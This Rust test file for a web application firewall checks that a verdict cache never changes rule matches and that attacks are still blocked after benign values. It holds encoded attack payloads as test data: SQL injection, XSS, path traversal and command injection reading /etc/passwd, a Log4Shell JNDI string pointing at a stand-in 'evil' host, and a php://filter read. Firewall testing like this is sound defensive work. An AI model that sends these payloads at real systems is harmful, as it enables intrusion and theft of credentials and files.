//! The value memo (`palisade_waf::memo`) never changes a verdict: the same
//! requests through one engine with the memo on (twice: the second pass
//! answered from it) and through one with the memo off match the same
//! rules, and attack values that follow benign ones in the same places
//! are still caught.

use std::path::{Path, PathBuf};

use palisade_waf::conformance::{self, Case, CaseRun};
use palisade_waf::{HttpRequest, Waf, WafMode, WafSettings};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The CRS directory; the test fails without one (the test command installs
/// Debian's `modsecurity-crs`).
fn crs_dir() -> PathBuf {
    [
        std::env::var_os("PALISADE_CRS_DIR").map(PathBuf::from),
        Some(root().join("../shared/crs/rules")),
        Some(PathBuf::from("/usr/share/modsecurity-crs/rules")),
    ]
    .into_iter()
    .flatten()
    .find(|p| p.is_dir())
    .expect("no OWASP CRS found: set PALISADE_CRS_DIR, or install Debian's modsecurity-crs")
}

/// The engine with the memo on (default) or off.
fn build(cfg: &WafSettings, memo: bool) -> Waf {
    let mut waf = match Waf::build(cfg) {
        Ok(w) => w,
        Err(_) => {
            let mut cfg = cfg.clone();
            cfg.skip_unsupported_rules = true;
            Waf::build(&cfg).expect("CRS loads")
        }
    };
    if !memo {
        assert!(waf.set_value_memo(0));
    }
    assert_eq!(waf.rules().memo.is_some(), memo);
    waf
}

/// What a run decided: the rules matched (id, phase, variable) and whether
/// the backend was reached, with its status.
fn outcome(run: &CaseRun) -> (Vec<(u32, u8, String)>, Option<u16>) {
    (
        run.matched
            .iter()
            .map(|m| (m.id, m.phase, m.matched_var_name.clone()))
            .collect(),
        run.response.as_ref().map(|r| r.status),
    )
}

fn same_with_and_without_memo(cfg: &WafSettings, reqs: &[(String, HttpRequest)]) -> usize {
    let off = build(cfg, false);
    let on = build(cfg, true);
    let before = palisade_waf::memo::stats();
    let expected: Vec<_> = reqs
        .iter()
        .map(|(_, r)| outcome(&conformance::run_case(&off, r.clone())))
        .collect();
    // Nothing reached a memo that is off.
    assert_eq!(off.rules().memo.as_ref().map(|m| m.len()), None);
    let mut differences = Vec::new();
    for pass in 1..=2 {
        for ((id, r), want) in reqs.iter().zip(&expected) {
            let got = outcome(&conformance::run_case(&on, r.clone()));
            if &got != want {
                differences.push(format!("pass {pass}, {id}: {got:?} against {want:?}"));
            }
        }
    }
    assert!(
        differences.is_empty(),
        "{} differences, first: {:#?}",
        differences.len(),
        &differences[..differences.len().min(5)]
    );
    // The memo was used: values remembered, and found again.
    let memo = on.rules().memo.as_ref().expect("memo on");
    assert!(!memo.is_empty());
    assert!(palisade_waf::memo::stats().hits > before.hits);
    expected.iter().filter(|(m, _)| !m.is_empty()).count()
}

fn get(uri: &str, extra: &[(&str, &str)]) -> HttpRequest {
    let mut headers: Vec<(Vec<u8>, Vec<u8>)> = [
        ("Host", "shop.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.5"),
    ]
    .iter()
    .chain(extra)
    .map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec()))
    .collect();
    headers.shrink_to_fit();
    HttpRequest {
        method: b"GET".to_vec(),
        uri: uri.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: Vec::new(),
        remote_addr: "192.0.2.10".into(),
        remote_port: 40000,
        unique_id: "memo".into(),
    }
}

fn block_settings() -> WafSettings {
    WafSettings {
        crs_dir: Some(crs_dir().display().to_string()),
        mode: WafMode::Block,
        ..WafSettings::default()
    }
}

/// The same parameters and headers carry benign values, then attacks, then
/// the benign values again, over and over: every attack is blocked and
/// every benign request passes, with the memo full of the benign values.
#[test]
fn attacks_after_benign_values_in_the_same_places_are_blocked() {
    let waf = build(&block_settings(), true);
    let benign = [
        "/shop/search?q=running+shoes&sort=price_asc",
        "/shop/search?q=trail+boots&sort=price_desc",
    ];
    let attacks = [
        "/shop/search?q=1%27+OR+%271%27%3D%271&sort=price_asc",
        "/shop/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&sort=price_asc",
        "/shop/search?q=..%2F..%2F..%2Fetc%2Fpasswd&sort=price_asc",
        "/shop/search?q=running+shoes&sort=%3Bcat+%2Fetc%2Fpasswd",
    ];
    let cookie_ok = "sessionid=8f14e45fceea167a5a36dedd4bea2543; prefs=lang%3Den";
    let cookie_bad = "sessionid=8f14e45fceea167a5a36dedd4bea2543; prefs=1%27%20UNION%20SELECT%20password%20FROM%20users--";
    let before = palisade_waf::memo::stats();
    for round in 0..20 {
        for uri in benign {
            let v = waf.inspect(get(uri, &[("Cookie", cookie_ok)]));
            assert!(!v.blocked, "round {round}: {uri} blocked: {v:?}");
        }
        for uri in attacks {
            let v = waf.inspect(get(uri, &[("Cookie", cookie_ok)]));
            assert!(v.blocked, "round {round}: {uri} passed");
        }
        let v = waf.inspect(get(benign[0], &[("Cookie", cookie_bad)]));
        assert!(v.blocked, "round {round}: SQL injection in a cookie passed");
        // A header value seen clean as the User-Agent, then as an attack
        // where the same text means something else is not what this checks:
        // answers are per value bytes, whatever the variable.
        let v = waf.inspect(get(benign[1], &[("Referer", "<script>alert(1)</script>")]));
        assert!(v.blocked, "round {round}: XSS in the Referer passed");
    }
    let after = palisade_waf::memo::stats();
    assert!(after.hits > before.hits, "the memo was never used");
}

/// Every request of the CRS v4 regression suite (or the few cases of the
/// installed CRS this test builds itself), twice through one engine with
/// the memo on, matches exactly what an engine without it matches.
#[test]
fn a_sample_of_attacks_and_benign_requests_match_the_same_rules_with_the_memo() {
    let mut reqs: Vec<(String, HttpRequest)> = Vec::new();
    let attacks = [
        "q=1%27+OR+%271%27%3D%271",
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "file=..%2F..%2F..%2Fetc%2Fpasswd",
        "cmd=%3Bcat+%2Fetc%2Fpasswd",
        "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
        "q=union+select+password+from+users",
        "p=php%3A%2F%2Ffilter%2Fresource%3Dindex.php",
    ];
    let benign = [
        "q=running+shoes&page=2",
        "q=select+a+size&category=sport",
        "ref=newsletter&utm_source=mail",
        "q=caf%C3%A9+au+lait",
    ];
    for (i, q) in attacks.iter().chain(&benign).enumerate() {
        for (j, cookie) in ["a=1", "sessionid=abc; prefs=lang%3Den"].iter().enumerate() {
            reqs.push((
                format!("{i}.{j}"),
                get(&format!("/shop/search?{q}"), &[("Cookie", cookie)]),
            ));
        }
    }
    let mut cfg = block_settings();
    cfg.mode = WafMode::Detect;
    let matched = same_with_and_without_memo(&cfg, &reqs);
    assert!(
        matched >= attacks.len() * 2,
        "{matched} requests matched rules"
    );
}

#[test]
fn the_policy_setting_turns_the_memo_off() {
    let mut cfg = block_settings();
    assert!(Waf::build(&cfg).unwrap().rules().memo.is_some());
    cfg.value_memo = false;
    assert!(Waf::build(&cfg).unwrap().rules().memo.is_none());
}

fn shared(rel: &str) -> PathBuf {
    root().join("../shared").join(rel)
}

#[test]
#[ignore = "needs ../shared/crs (rules and cases); scripts/test.sh runs it"]
fn shared_crs_cases_match_the_same_rules_with_the_memo_twice() {
    let rules = shared("crs/rules");
    let cases: Vec<Case> =
        conformance::load_cases(Path::new(&shared("crs/cases/crs_cases.jsonl"))).unwrap();
    assert!(cases.len() > 4000, "{} cases", cases.len());
    let mut cfg = conformance::regression_config(&rules, 4);
    cfg.tx.insert("arg_name_length".into(), "100".into());
    cfg.tx.insert("max_num_args".into(), "255".into());
    let reqs: Vec<(String, HttpRequest)> = cases
        .iter()
        .map(|c| (c.id.clone(), conformance::case_request(c)))
        .collect();
    let matched = same_with_and_without_memo(&cfg, &reqs);
    assert!(matched > 3900, "{matched} cases matched rules");
}
